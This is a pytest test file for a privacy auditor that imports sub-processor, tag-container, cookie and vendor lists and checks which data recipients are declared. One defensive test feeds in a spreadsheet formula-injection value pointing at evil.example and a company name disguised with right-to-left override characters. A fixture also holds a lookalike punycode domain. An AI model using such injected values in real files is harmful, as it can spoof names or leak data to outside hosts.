"""Lists of sub-processors, tags, cookies and vendors into a case: what is declared, what is asked, and what nobody stated."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
import yaml

from auditor.loading.importing.lists.words import listed
from tests.importing import lists
from tests.importing.bits import consent_string
from tests.importing.conftest import Desk
from tests.importing.making import workbook

OPTIONS = ("--by", "shop", "--site", "pages", "--for", "site", "--people", "user=visitor")


def written(desk: Desk, name: str, text: str | bytes, *options: str) -> Any:
    desk.hand("case.yaml", lists.CASE)
    desk.put(name, text.encode() if isinstance(text, str) else text)
    desk.imported(name, "--as", "list", *options)
    return desk.facts("list")


def container(**changes: Any) -> str:
    made = copy.deepcopy(lists.CONTAINER)
    made["containerVersion"].update(changes)
    return json.dumps(made)


def vendors(desk: Desk, string: str, text: str = "", code: int = 0) -> Any:
    desk.hand("case.yaml", lists.CASE)
    entry = {
        "file": "../list.json",
        "tc_string": "../string.txt",
        "by": "shop",
        "site": "pages",
        "for": "site",
    }
    desk.hand("imports.yaml", yaml.safe_dump({"auditor": 1, "imports": {"list": entry}}))
    desk.put("string.txt", string.encode())
    desk.put("list.json", (text or json.dumps(lists.VENDORS)).encode())
    done = desk.imported("list.json", "--as", "list", code=code)
    return done if code else desk.facts("list")


def plain(value: Any) -> Any:
    return value["value"] if isinstance(value, dict) and "value" in value else value


def of(tree: Any, section: str, field: str) -> dict[str, Any]:
    part = tree.get(section, {})
    return {name.removeprefix("list-"): plain(entry[field]) for name, entry in part.items() if field in entry}


def aside(tree: Any, field: str) -> list[tuple[str, str]]:
    return [(each["what"], each.get("words", "")) for each in tree["imports"]["list"].get(field, [])]


def fields(tree: Any) -> set[str]:
    return {field for entry in tree.get("flows", {}).values() for field in entry}


# sub-processors


def test_a_list_gives_companies_places_and_dates_and_asks_what_it_leaves_open(desk: Desk) -> None:
    tree = written(desk, "list.csv", lists.CSV, "--by", "vendor")
    assert of(tree, "hosts", "location") == {
        "rackalto-sas-place": ["FR", "BE"],
        "telefil-inc-place": "US",
        "aws-emea-place": "IE",
        "vigie-place": "unknown",
    }
    assert of(tree, "flows", "since") == {"rackalto-sas": "2021-03-02", "telefil-inc": "2022-01-25"}
    assert of(tree, "flows", "tool") == {"telefil-inc": "scc"}
    assert of(tree, "organisations", "dpf") == {"telefil-inc": "true"}
    assert of(tree, "flows", "access") == {"telefil-inc": "remote"}
    assert set(of(tree, "organisations", "country").values()) == {"unknown"}
    assert tree["organisations"]["list-vigie"] == {
        "title": "Vigie",
        "kind": "unknown",
        "name": "unknown",
        "country": "unknown",
        "source": "list#row=5",
    }
    assert tree["hosts"]["list-rackalto-sas-place"]["title"] == "Rackalto SAS: Hébergement du site"
    assert {each["signed"] for each in tree["agreements"]} == {"unknown"}
    assert tree["activities"]["imported-list"]["processors"] == [
        "vendor", "list-rackalto-sas", "list-telefil-inc", "aws-emea", "list-vigie",
    ]  # fmt: skip
    assert tree["known"] == "declared"
    assert "notices" not in tree
    assert ("says-nothing", "Sans objet") in aside(tree, "left_out")
    assert {("no-such-word", "UE"), ("no-such-word", "RGPD"), ("no-such-word", "bientôt")} <= set(
        aside(tree, "not_understood")
    )
    assert ("unnamed", "Rien · France") in aside(tree, "not_understood")


@pytest.mark.parametrize("means", ["", "seat", "processing"])
def test_a_column_that_says_location_means_what_people_say_and_nothing_before(desk: Desk, means: str) -> None:
    options = ("--location-means", means) if means else ()
    tree = written(desk, "list.md", lists.MARKDOWN, "--by", "vendor", *options)
    countries, places = of(tree, "organisations", "country"), of(tree, "hosts", "location")
    assert countries["gamma-ltd"] == ("GB" if means == "seat" else "unknown")
    assert places.get("gamma-ltd-place", "") == {"": "unknown", "seat": "", "processing": "GB"}[means]
    said = tree["imports"]["list"].get("to_say", [])
    assert (said == [{"what": "location_means", "words": ["Country"]}]) is (not means)


MOVED = """<table><tr><th>Company<th>Services provided<th>Country of hosting
<tr><td><s>Older GmbH</s> Newer GmbH<td>Mail<td><ul><li><del>India</del></li><li>Ireland</li></ul>
<tr><td>Kept Ltd<td>Calls<td><del>India</del>
<tr><td><del>Gone<br>Ltd</del><td>Calls<td>India</table>"""


MOVED_IN_MARKDOWN = """| Company | Services provided | Country of hosting |
|--|--|--|
| ~~Older GmbH~~ Newer GmbH | Mail | <del>India</del> Ireland |
| Kept Ltd | Calls | ~India~ |
| ~~Gone~~ ~~Ltd~~ | Calls | India |
"""


@pytest.mark.parametrize(("name", "text"), [("list.html", MOVED), ("list.md", MOVED_IN_MARKDOWN)])
def test_what_is_struck_out_within_a_cell_becomes_no_fact_and_is_told(
    desk: Desk, name: str, text: str
) -> None:
    tree = written(desk, name, text, "--by", "vendor")
    assert of(tree, "organisations", "name") == {"newer-gmbh": "Newer GmbH", "kept-ltd": "Kept Ltd"}
    assert of(tree, "hosts", "location") == {"newer-gmbh-place": "IE"}
    assert aside(tree, "left_out") == [
        ("struck-out", "Older GmbH"), ("struck-out", "India"), ("struck-out", "India"), ("struck-out", "Gone Ltd · Calls · India"),
    ]  # fmt: skip


def test_companies_of_the_group_in_a_table_of_their_own_are_on_the_list(desk: Desk) -> None:
    affiliates = "\n| Affiliate | Registered office | Activity |\n|--|--|--|\n| Alpha India Pvt Ltd | India | Support (remote access) |\n"
    menu = "\n| Page | Link |\n|--|--|\n| Home | here |\n"
    tree = written(desk, "list.md", MOVED_IN_MARKDOWN + affiliates + menu, "--by", "vendor")
    assert of(tree, "organisations", "country")["alpha-india-pvt-ltd"] == "IN"
    assert of(tree, "flows", "access") == {"alpha-india-pvt-ltd": "remote"}
    assert ("not-of-the-case", "Page · Link (4)") in aside(tree, "left_out")


def test_two_companies_in_a_cell_words_that_deny_and_rows_struck_out_become_no_fact(desk: Desk) -> None:
    tree = written(desk, "list.md", lists.MARKDOWN, "--by", "vendor")
    assert tree["organisations"]["list-alpha-beta"]["name"]["value"] == "unknown"
    assert of(tree, "flows", "tool") == {
        "alpha-beta": "unknown",
        "gamma-ltd": "unknown",
        "epsilon-self-service": "scc",
    }
    assert tree["hosts"]["list-gamma-ltd-place"]["title"] == "Gamma Ltd: Mail; Calls"
    assert ("struck-out", "Delta Corp. · Old · US · SCCs") in aside(tree, "left_out")
    assert ("several", "Alpha + Beta") in aside(tree, "not_understood")
    assert tree["sources"]["list"]["title"] == "Subprocessors of Fournil"
    assert tree["sources"]["list"]["date"] == "2025-10-05"
    assert tree["sources"]["list"]["author"] == "Fournil SAS"
    assert [each["source"] for each in tree["flows"].values()] == [
        "list#table=1/row=2", "list#table=1/row=3", "list#table=1/row=5",
    ]  # fmt: skip


def test_a_page_is_read_as_a_reader_sees_it(desk: Desk) -> None:
    tree = written(desk, "list.html", lists.HTML, "--by", "vendor")
    assert [(each["location"], each["source"]) for each in tree["hosts"].values()] == [
        ("NL", "list#table=1/row=2"),
        ("DE", "list#table=1/row=3"),
        ("GB", "list#table=1/row=5"),
    ]
    assert list(tree["organisations"]) == ["list-rack-b-v", "list-mail-ltd"]
    assert len(tree["agreements"]) == 2
    assert ("not-shown", "Caché SAS · Pub · Chine") in aside(tree, "left_out")
    assert "Ghost" not in json.dumps(tree)


def test_months_come_first_where_a_day_above_twelve_shows_it(desk: Desk) -> None:
    rows = "Company;Purpose;Hosting location;Since\nAlfa Ltd;x;FR;01/13/2021\nBeta Ltd;y;FR;03/02/2021\n"
    tree = written(desk, "list.csv", rows, "--by", "vendor")
    assert of(tree, "flows", "since") == {"alfa-ltd": "2021-01-13", "beta-ltd": "2021-03-02"}


def test_nobody_says_whose_list_it_is(desk: Desk) -> None:
    desk.hand("case.yaml", lists.CASE)
    desk.put("list.csv", lists.CSV.encode())
    assert "--by" in desk.imported("list.csv", code=2).stderr
    assert not (desk.case / "imports").exists()


def test_an_encoding_is_never_guessed_for_a_list(desk: Desk) -> None:
    text = "Sous-traitant;Finalité;Pays d'hébergement\nHébert SAS;Hébergement;France\n".encode("cp1252")
    desk.hand("case.yaml", lists.CASE)
    desk.put("list.csv", text)
    assert "--encoding windows-1252" in desk.imported("list.csv", "--by", "vendor", code=2).stderr
    tree = written(desk, "list.csv", text, "--by", "vendor", "--encoding", "windows-1252")
    assert tree["organisations"]["list-hebert-sas"]["name"] == "Hébert SAS"


def test_signs_that_hide_and_formulas_are_told_and_never_followed(desk: Desk) -> None:
    rows = (
        "Company;Purpose;Country of hosting\n"
        '"=HYPERLINK(""https://evil.example/?x="";""Fine Hosting GmbH"")";host;DE\n'
        "Trusted\u202exet.exe\u202c Ltd;help;US\n"
    )
    tree = written(desk, "list.csv", rows, "--by", "vendor")
    assert list(tree["organisations"]) == ["list-fine-hosting-gmbh", "list-trustedxet-exe-ltd"]
    assert {what for what, _ in aside(tree, "not_understood")} == {"formula", "hidden-signs"}
    assert "\u202e" not in (desk.case / "imports" / "list.yaml").read_text("utf-8")


# tags


def test_a_container_says_whom_the_site_is_set_up_to_call_and_when(desk: Desk) -> None:
    tree = written(desk, "list.json", container(), *OPTIONS)
    assert of(tree, "flows", "to") == {
        "container": "google-ie",
        "1": "google-ie",
        "2": "meta-ie",
        "4": "list-partner-example",
        "5": "linkedin-ie",
        "6": "list-fixed-example",
        "6-unknown": "unknown",
        "9": "list-tags-quai-example",
        "10": "unknown",
        "12": "list-10-0-0-7",
        "13": "list-xn-facebok-ejg-net",
        "13-cdn-9-example": "list-cdn-9-example",
    }
    assert of(tree, "flows", "trigger") == {
        **dict.fromkeys(["1", "2", "6", "6-unknown", "10", "12", "13", "13-cdn-9-example"], "load"),
        "4": "click",
        "5": "unknown",
        "9": "unknown",
    }
    assert of(tree, "flows", "consent_first") == {"2": "true"}
    assert of(tree, "flows", "transport")["4"] == "none"
    assert of(tree, "flows", "data")["2"] == ["device", "contact", "identity", "unknown"]
    assert of(tree, "flows", "data")["4"] == ["device", "page-address", "unknown"]
    assert "event of the site: accepted" in tree["flows"]["list-5"]["trigger"]["note"]["en"]
    assert "speciality" in tree["flows"]["list-9"]["note"]["en"]
    assert of(tree, "hosts", "operator") == {"tags-quai-example": "unknown", "10-0-0-7": "unknown"}
    assert fields(tree).isdisjoint({"loads", "reads_terminal", "referrer", "refusal", "exempt"})
    assert tree["sources"]["list"]["date"] == "2025-11-20"


def test_a_container_tells_what_it_does_not_call_and_what_is_not_understood(desk: Desk) -> None:
    tree = written(desk, "list.json", container(), *OPTIONS)
    left = aside(tree, "left_out")
    assert ("switched-off", "3 tag 3: static.hotjar.com") in left
    assert ("switched-off", "8 tag 8") in left
    assert ("nobody-called", "7 tag 7") in left
    assert ("own-pages", "11 tag 11: www.quai.example") in left
    told = aside(tree, "not_understood")
    assert {
        ("no-such-word", "brand_new"),
        ("no-such-element", "404"),
        ("mixed-scripts", "xn--facebok-ejg.net"),
    } <= set(told)
    assert tree["imports"]["list"]["to_say"] == [{"what": "another-source", "words": ["GTM-OTHER"]}]
    text = (desk.case / "imports" / "list.yaml").read_text("utf-8")
    assert "secret" not in text
    assert "token" not in text
    assert "observed" not in text


def test_the_answer_of_the_api_says_the_same_by_its_own_words(desk: Desk) -> None:
    version = copy.deepcopy(lists.CONTAINER["containerVersion"])
    for each in version["trigger"]:
        each["type"] = {"LINK_CLICK": "linkClick", "CUSTOM_EVENT": "customEvent"}[each["type"]]
    version["tag"][1]["consentSettings"]["consentStatus"] = "needed"
    first = written(desk, "list.json", container(), *OPTIONS)
    second = written(desk, "list.json", json.dumps(version), *OPTIONS)
    for field in ("to", "trigger", "consent_first", "data", "transport"):
        assert of(first, "flows", field) == of(second, "flows", field), field
    assert second["flows"]["list-4"]["source"] == "list#/tag/3"


def test_tags_of_a_server_container_send_from_the_server(desk: Desk) -> None:
    head = {"publicId": "GTM-S", "name": "s", "usageContext": ["SERVER"]}
    tree = written(
        desk,
        "list.json",
        container(container=head, tag=[lists.tag("1", "googtag")]),
        "--by",
        "shop",
        "--for",
        "site",
    )
    assert of(tree, "flows", "from") == {"1": "list-server"}
    assert of(tree, "flows", "data") == {"1": ["unknown"]}
    assert "embedded_in" not in fields(tree)


def test_a_tag_set_off_by_another_is_live_and_one_whose_time_is_over_is_not(desk: Desk) -> None:
    tags = [
        lists.tag("1", "googtag", setupTag=[{"tagName": "tag 2"}]),
        lists.tag("2", "html", lists.html("<script src='//a.example/x.js'></script>"), fires=""),
        lists.tag(
            "3", "html", lists.html("<script src='//b.example/x.js'></script>"), scheduleEndMs="1700000000000"
        ),
    ]
    tree = written(desk, "list.json", container(tag=tags), *OPTIONS)
    assert set(of(tree, "flows", "to")) == {"container", "1", "2"}
    assert "transport" not in tree["flows"]["list-2"]


def test_a_served_container_is_read_and_never_run(desk: Desk) -> None:
    tree = written(desk, "gtm.js", lists.SERVED, *OPTIONS)
    assert of(tree, "flows", "to") == {
        "container": "google-ie",
        "1": "google-ie",
        "2": "list-fixed-example",
        "4": "list-partner-example",
        "5": "linkedin-ie",
        "10": "unknown",
    }
    assert of(tree, "flows", "trigger") == {
        "1": "load",
        "2": "load",
        "4": "click",
        "5": "load",
        "10": "click",
    }
    assert of(tree, "flows", "consent_first") == {"2": "true"}
    assert of(tree, "flows", "data")["4"] == ["device", "page-address", "unknown"]
    assert (
        tree["flows"]["list-5"]["note"]["en"]
        == "by the permissions of its template; not after the event refused"
    )
    assert ("nobody-called", "9 lcl: lcl") in aside(tree, "left_out")
    assert tree["flows"]["list-4"]["source"] == "list#/resource/tags/2"


def test_taking_any_tag_away_settles_nothing_and_calls_nobody_new(desk: Desk) -> None:
    whole = written(desk, "list.json", container(), *OPTIONS)
    tags = lists.CONTAINER["containerVersion"]["tag"]
    for number in range(len(tags)):
        tree = written(desk, "list.json", container(tag=[*tags[:number], *tags[number + 1 :]]), *OPTIONS)
        for field in ("to", "transport", "consent_first"):
            assert of(tree, "flows", field).items() <= of(whole, "flows", field).items()


# cookies


def test_a_reader_that_a_list_calls_unknown_is_an_end_that_nobody_knows(desk: Desk) -> None:
    listed = json.loads(json.dumps(lists.ONETRUST))
    listed["DomainData"]["Groups"][1]["Hosts"] = [{"HostName": "unknown", "DisplayName": "unknown"}]
    tree = written(desk, "list.json", json.dumps(listed), *OPTIONS)
    assert "unknown" in of(tree, "flows", "to").values()
    (notice,) = tree["notices"].values()
    assert notice["recipients"].count("unknown") == 1


@pytest.mark.parametrize(
    ("name", "text", "flows", "recipients"),
    [
        ("list.json", json.dumps(lists.ONETRUST), {"cdn-cookielaw-org": "onetrust", "doubleclick-net": "google-ie", "partner-example": "list-partner-example"}, ["onetrust", "google-ie", "list-partner-example", "list-chatfil-ltd", "unknown"]),
        ("cc.js", lists.COOKIEBOT, {"meta-platforms-ireland-limited": "meta-ie", "partner-example": "list-partner-example"}, ["meta-ie", "list-partner-example", "unknown"]),
        ("list.csv", lists.COOKIES, {"partner-example": "list-partner-example", "meta-platforms-ireland-limited": "meta-ie"}, ["list-partner-example", "meta-ie", "unknown"]),
    ],
)  # fmt: skip
def test_who_reads_cookies_is_told_to_people_and_a_reader_not_told_leaves_the_list_open(
    desk: Desk, name: str, text: str, flows: dict[str, str], recipients: list[str]
) -> None:
    tree = written(desk, name, text, *OPTIONS)
    assert of(tree, "flows", "to") == flows
    assert tree["notices"]["list"]["recipients"] == recipients
    assert set(of(tree, "flows", "reads_terminal").values()) == {"true"}
    assert fields(tree).isdisjoint({"exempt", "kept_for", "consent_first", "loads"})
    assert "observed" not in json.dumps(tree)


def test_a_list_that_names_every_reader_is_closed(desk: Desk) -> None:
    rows = "Cookie name;Provider\nlp;partner.example\nfr;Meta Platforms Ireland Limited\n"
    tree = written(desk, "list.csv", rows, *OPTIONS)
    assert tree["notices"]["list"]["recipients"] == ["list-partner-example", "meta-ie"]


def test_tarteaucitron_holds_back_what_needs_consent_under_high_privacy_alone(desk: Desk) -> None:
    tree = written(desk, "list.html", lists.TARTEAUCITRON, *OPTIONS)
    assert of(tree, "flows", "to") == {
        "gtag": "google-ie",
        "matomo": "list-stats-quai-example",
        "quai-agenda": "unknown",
    }
    assert of(tree, "flows", "consent_first") == {"gtag": "true"}
    assert tree["flows"]["list-gtag"]["source"] == "list#L3"
    assert tree["notices"]["list"]["recipients"] == ["google-ie", "unknown"]
    assert aside(tree, "left_out") == [("switched-off", "facebookpixel"), ("nobody-called", "gcmadstorage")]
    open_page = lists.TARTEAUCITRON.replace('"highPrivacy": true', '"highPrivacy": false')
    assert of(written(desk, "list.html", open_page, *OPTIONS), "flows", "consent_first") == {}


# vendors


def test_a_vendor_list_with_a_string_names_whom_the_banner_shows_and_no_flow(desk: Desk) -> None:
    tree = vendors(desk, consent_string(disclosed=[11, 12, 15]))
    assert list(tree["organisations"]) == ["list-11", "list-12", "list-15"]
    assert tree["organisations"]["list-11"]["name"] == "Adfoo SAS"
    assert of(tree, "organisations", "ids")["12"] == {"iab-gvl": "12"}
    assert of(tree, "organisations", "name") == {"11": "Adfoo SAS", "12": "unknown", "15": "unknown"}
    assert tree["notices"]["list"]["recipients"] == ["list-11", "list-12", "list-15"]
    assert tree["notices"]["list"]["purposes"] == ["Keep", "Choose", "Measure"]
    assert "flows" not in tree
    assert "395" in tree["organisations"]["list-11"]["note"]["en"]
    assert tree["sources"]["list-string"]["date"] == "2025-10-05"
    assert ("not-disclosed", "16 Notshown B.V.") in aside(tree, "left_out")
    assert [what for what, _ in aside(tree, "not_understood")] == ["no-category", "deleted"]


def test_without_a_disclosed_segment_those_with_consent_or_a_claim_are_shown(desk: Desk) -> None:
    tree = vendors(desk, consent_string(consent=[11], interest=[16, 99]))
    assert tree["notices"]["list"]["recipients"] == ["list-11", "list-16", "unknown"]
    assert ("no-such-element", "99") in aside(tree, "not_understood")


def test_a_vendor_list_alone_says_nothing_of_a_site(desk: Desk) -> None:
    desk.hand("case.yaml", lists.CASE)
    desk.put("list.json", json.dumps(lists.VENDORS).encode())
    assert "tc_string" in desk.imported("list.json", *OPTIONS[:2], code=2).stderr


# sellers and applications


def test_sellers_are_named_and_asked_about_and_nothing_goes_to_them(desk: Desk) -> None:
    text = "google.com, pub-1, DIRECT, f0\nads.example, 7, reseller # x\nOWNERDOMAIN=quai.example\nCONTACT=a@quai.example\n"
    tree = written(desk, "ads.txt", text, "--by", "shop", "--site", "pages")
    assert list(tree["organisations"]) == ["list-ads-example"]
    assert tree["imports"]["list"]["to_say"] == [
        {"what": "bid-requests", "words": ["google.com", "ads.example"]}
    ]
    assert "flows" not in tree
    assert "a@quai" not in json.dumps(tree)


def test_sellers_of_a_network_bear_no_names_of_persons_and_no_address(desk: Desk) -> None:
    sellers = [
        {"seller_id": "1", "seller_type": "INTERMEDIARY", "name": "Adfoo Ltd", "domain": "adfoo.example"},
        {"seller_id": "2", "seller_type": "PUBLISHER", "is_confidential": 1},
        {"seller_id": "3", "seller_type": "PUBLISHER", "name": "Ada Fictive", "domain": "ada.example"},
    ]
    text = json.dumps({"version": "1.0", "contact_email": "x@y.example", "sellers": sellers})
    tree = written(desk, "sellers.json", text, "--by", "shop")
    assert of(tree, "organisations", "name") == {"adfoo-example": "Adfoo Ltd", "ada-example": "unknown"}
    assert ("no-company", "1") in aside(tree, "not_understood")
    assert not {"Ada Fictive", "x@y.example"} & set(json.dumps(tree).split('"'))


def test_code_in_an_application_is_no_sending(desk: Desk) -> None:
    report = {
        "application": {"handle": "org.quai", "version_name": "2", "permissions": ["a"]},
        "apk": {},
        "trackers": [{"name": "Fern Analytics", "id": 1}],
    }
    tree = written(desk, "report.json", json.dumps(report), "--by", "shop")
    assert tree["organisations"]["list-fern-analytics"]["kind"] == "unknown"
    assert tree["imports"]["list"]["to_say"] == [{"what": "called-when", "words": ["Fern Analytics"]}]
    assert "flows" not in tree


# all


FILES = {
    "list.csv": lists.CSV,
    "list.md": lists.MARKDOWN,
    "page.html": lists.HTML,
    "tags.json": json.dumps(lists.CONTAINER),
    "gtm.js": lists.SERVED,
    "banner.json": json.dumps(lists.ONETRUST),
    "cc.js": lists.COOKIEBOT,
    "tac.html": lists.TARTEAUCITRON,
    "cookies.csv": lists.COOKIES,
}


@pytest.mark.parametrize("name", FILES)
def test_the_same_list_gives_the_same_bytes_and_a_case_that_holds(desk: Desk, name: str) -> None:
    options = OPTIONS if name not in ("list.csv", "list.md", "page.html") else OPTIONS[:2]
    written(desk, name, FILES[name], *options)
    before = desk.files()
    written(desk, name, FILES[name], *options)
    assert desk.files() == before
    assert desk.run("check", "case").returncode in (0, 1)
    french = desk.run("import", name, "--into", "case", "--as", "list", *options, "--lang", "fr").stdout
    assert "Lu\u00a0:" in french


@pytest.mark.parametrize("name", ["tags.json", "banner.json"])
def test_the_order_of_keys_in_a_source_changes_nothing_but_its_hash(desk: Desk, name: str) -> None:
    first = written(desk, name, FILES[name], *OPTIONS)
    second = written(desk, name, json.dumps(json.loads(FILES[name]), sort_keys=True), *OPTIONS)
    for section in ("organisations", "hosts", "flows", "notices"):
        assert first.get(section) == second.get(section)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (json.dumps(lists.CONTAINER)[:400], "JSON"),
        ("x" + json.dumps(lists.CONTAINER), ""),
        ('{"exportFormatVersion": 2, "tag": ' + "[" * 60 + "]" * 60 + "}", ""),
        (lists.SERVED[:500], ""),
        ('{"DomainData": {"Groups": [', "JSON"),
    ],
)
def test_a_broken_list_is_refused_and_nothing_is_written(desk: Desk, text: str, said: str) -> None:
    desk.hand("case.yaml", lists.CASE)
    desk.put("list.json", text.encode())
    done = desk.imported("list.json", *OPTIONS, code=2)
    assert said in done.stderr
    assert not (desk.case / "imports").exists()


def test_what_people_leave_out_or_describe_already_is_said_and_not_made_again(desk: Desk) -> None:
    desk.hand("case.yaml", lists.CASE)
    said = {
        "file": "../tags.json",
        "by": "shop",
        "for": "site",
        "site": "pages",
        "people": {"user": "visitor"},
    }
    said |= {"same": {"partner.example": "vendor"}, "leave_out": {"10": "a test"}}
    desk.hand("imports.yaml", yaml.safe_dump({"auditor": 1, "imports": {"list": said}}))
    desk.put("tags.json", json.dumps(lists.CONTAINER).encode())
    desk.imported("tags.json", "--as", "list")
    tree = desk.facts("list")
    assert of(tree, "flows", "to")["4"] == "vendor"
    assert ("by-hand", "10: a test") in aside(tree, "left_out")
    assert "list-10" not in tree["flows"]


# together


def undeclared(desk: Desk) -> set[str]:
    """Give the findings, established, of a recipient that nobody tells people of."""
    result = json.loads(desk.run("check", "case", "--format", "json", "--no-config").stdout)
    return {
        json.dumps(each)
        for each in result["findings"]
        if each["rule"] == "TPS-002" and each["outcome"] != "cannot-be-shown"
    }


def test_what_is_set_up_and_told_to_nobody_is_found_though_more_may_go_along(desk: Desk) -> None:
    desk.hand(
        "notice.yaml",
        "auditor: 1\nknown: documented\nnotices: {privacy: {by: shop, for: site, recipients: none}}\n",
    )
    written(desk, "list.json", container(tag=lists.CONTAINER["containerVersion"]["tag"][:2]), *OPTIONS)
    found = undeclared(desk)
    assert any("flows.list-2" in each for each in found)
    assert all('"declared"' in each and '"observed"' not in each for each in found)


def test_a_list_of_cookies_that_leaves_a_reader_open_accuses_nobody(desk: Desk) -> None:
    written(desk, "cookies.csv", lists.COOKIES, *OPTIONS)
    desk.put("list.json", container(tag=lists.CONTAINER["containerVersion"]["tag"][:1]).encode())
    desk.imported("list.json", "--as", "tags", *OPTIONS)
    assert undeclared(desk) == set()
    closed = lists.COOKIES.replace("Autre;abc;;\n", "").replace(
        "Mesure;_pk;Matomo (auto-hébergé);13 mois\n", ""
    )
    closed = closed.replace("Nécessaires;sid;www.quai.example;Session\n", "")
    desk.put("cookies.csv", closed.encode())
    desk.imported("cookies.csv", "--as", "list", *OPTIONS)
    assert any("flows.tags-1" in each for each in undeclared(desk))
    assert not any("meta-ie" in each and "flows.list-meta" in each for each in undeclared(desk))


def test_columns_and_sheets_that_no_fact_is_made_of_are_told(desk: Desk) -> None:
    head = ["Company", "Purpose", "Hosting location", "Colour", "Website"]
    book = workbook(
        {
            "List": [head, ["Alfa Ltd", "x", "FR", "red", "a.example"]],
            "Old": [head, ["Beta Ltd", "y", "DE", "", ""]],
        },
        hidden=["Old"],
    )
    tree = written(desk, "list.xlsx", book, "--by", "vendor")
    assert list(tree["organisations"]) == ["list-alfa-ltd"]
    assert tree["flows"]["list-alfa-ltd"]["source"] == "list#List!A2"
    assert ("not-shown", "Old") in aside(tree, "left_out")
    assert {("no-such-key", "Colour (1)"), ("no-such-key", "Website (1)")} <= set(
        aside(tree, "not_understood")
    )


def test_another_string_that_shows_the_same_vendors_changes_its_source_alone(desk: Desk) -> None:
    vendors(desk, consent_string(disclosed=[11, 12, 15]))
    desk.put("string.txt", consent_string(consent=[11], disclosed=[11, 12, 15]).encode())
    assert "facts did not" in desk.run("import", "--into", "case", "--check", code=0).stdout
    desk.put("string.txt", consent_string(disclosed=[11, 15]).encode())
    assert "organisations.list-12" in desk.run("import", "--into", "case", "--check", code=1).stdout
    (desk.folder / "string.txt").unlink()
    desk.run("import", "--into", "case", "--check", code=2)


@pytest.mark.parametrize(
    ("kind", "to"),
    [
        ("baut", "microsoft-ie"),
        ("bzi", "linkedin-ie"),
        ("hjtc", "contentsquare"),
        ("cegg", "list-crazyegg-com"),
    ],
)
def test_a_tag_of_a_vendor_that_comes_with_the_container_is_attributed_by_its_type(
    desk: Desk, kind: str, to: str
) -> None:
    tree = written(desk, "list.json", container(tag=[lists.tag("1", kind)]), *OPTIONS)
    flow = tree["flows"]["list-1"]
    assert flow["to"] == to
    assert "transport" not in flow
    for lang, said in (("en", "that Google publishes"), ("fr", "que Google publie")):
        assert said in flow["note"][lang]
        assert f"({kind}, 2026-" in flow["note"][lang]
    assert ("no-such-word", kind) not in aside(tree, "not_understood")


def of_kinds(*kinds: str) -> str:
    return container(tag=[lists.tag(str(number), kind) for number, kind in enumerate(kinds, 1)])


def test_two_types_of_one_vendor_without_a_known_host_are_one_brand(desk: Desk) -> None:
    tree = written(desk, "list.json", of_kinds("scjs", "scp", "brand_new"), *OPTIONS)
    assert of(tree, "flows", "to") == {
        "container": "google-ie",
        "1": "list-salecycle",
        "2": "list-salecycle",
        "3": "unknown",
    }
    assert tree["organisations"]["list-salecycle"]["name"] == "unknown"


def test_every_vendor_that_comes_with_a_container_ends_at_somebody(desk: Desk) -> None:
    kinds = list(listed("tags")["vendors"])
    tree = written(desk, "list.json", of_kinds(*kinds), *OPTIONS)
    assert len(tree["flows"]) == len(kinds) + 1
    assert "unknown" not in {flow["to"] for flow in tree["flows"].values()}
    assert not set(kinds) & {*listed("tags")["google"], *listed("tags")["calls_nobody"]}


def test_a_google_tag_as_served_has_its_flows_and_its_zones_but_none_for_each_setting(desk: Desk) -> None:
    kinds = ["ogt_1p_data_v2", "ccd_ga_first", "rep", "zone", "set_product_settings", "ccd_ga_last"]
    tags = [{"function": f"__{kind}", "tag_id": number} for number, kind in enumerate(kinds, 1)]
    tags[3]["vtp_childContainers"] = ["list", ["map", "publicId", "G-OTHER1"]]
    data = {"resource": {"version": "1", "macros": [{"function": "__e"}], "tags": tags}}
    data["resource"]["predicates"] = [{"function": "_eq", "arg0": ["macro", 0], "arg1": "gtm.js"}]
    data["resource"]["rules"] = [[["if", 0], ["add", 0, 1, 2, 3, 4, 5]]]
    tree = written(desk, "list.js", f"var data = {json.dumps(data)};", *OPTIONS)
    assert of(tree, "flows", "to") == {"container": "google-ie", "1": "google-ie", "3": "google-ie"}
    said = {each["what"]: each["words"] for each in tree["imports"]["list"]["to_say"]}
    assert said["another-source"] == ["G-OTHER1"]
    assert len([why for why, _ in aside(tree, "left_out") if why == "nobody-called"]) == 4


def test_a_script_that_calls_a_function_of_a_vendor_is_a_flow_by_inference_where_it_fetches_nothing(
    desk: Desk,
) -> None:
    pieces = [
        "<script>fbq('track', 'Lead', {eventID: '{{Id}}'});</script>",
        "<script>// fbq('track')\nvar a = \"fbq('x')\"; my.fbq('x'); fbq(name);</script>",
        "<script>t.src='https://connect.facebook.net/x.js'; fbq('init', '1')</script>",
        "<script>ttq.track('Lead'); window.lintrk('track', {});</script>",
    ]
    tags = [lists.tag(str(number), "html", lists.html(text)) for number, text in enumerate(pieces, 1)]
    tree = written(desk, "list.json", container(tag=tags), *OPTIONS)
    assert of(tree, "flows", "to") == {
        "container": "google-ie",
        "1": "meta-ie",
        "3": "meta-ie",
        "4": "tiktok-ie",
        "4-linkedin-ie": "linkedin-ie",
    }
    known = {name: flow.get("known", "declared") for name, flow in tree["flows"].items()}
    assert known["list-1"] == known["list-4"] == "inferred"
    assert known["list-3"] == "declared"
    assert "fbq" in tree["flows"]["list-1"]["note"]["fr"]
    assert ("nobody-called", "2 tag 2") in aside(tree, "left_out")


def test_headings_of_published_lists_are_known(desk: Desk) -> None:
    rows = "Company,Location,Processing purpose,Data types,Transfer mechanisms\nAlfa Ltd,Ireland,Mail,Addresses,SCCs\n"
    tree = written(desk, "list.csv", rows, "--by", "vendor", "--location-means", "processing")
    assert tree["hosts"]["list-alfa-ltd-place"]["title"] == "Alfa Ltd: Mail"
    assert tree["flows"]["list-alfa-ltd"]["tool"] == "scc"
    assert aside(tree, "not_understood") == []


def test_numbers_that_no_calendar_and_no_register_has_are_read_as_such(desk: Desk) -> None:
    call = lists.html("<script src='//b.example/x.js'></script>")
    for end in ("999999999999999", "9" * 5_000, "--5", "\u0663"):
        tree = written(
            desk, "list.json", container(tag=[lists.tag("3", "html", call, scheduleEndMs=end)]), *OPTIONS
        )
        assert set(of(tree, "flows", "to")) == {"container", "3"}
    for number in ("1" * 5_000, "\u0661\u0661"):
        entry = {number: {**lists.VENDORS["vendors"]["11"], "id": 1}}
        text = json.dumps({**lists.VENDORS, "vendors": {**lists.VENDORS["vendors"], **entry}})
        tree = vendors(desk, consent_string(disclosed=[11]), text)
        assert tree["notices"]["list"]["recipients"] == ["list-11"]
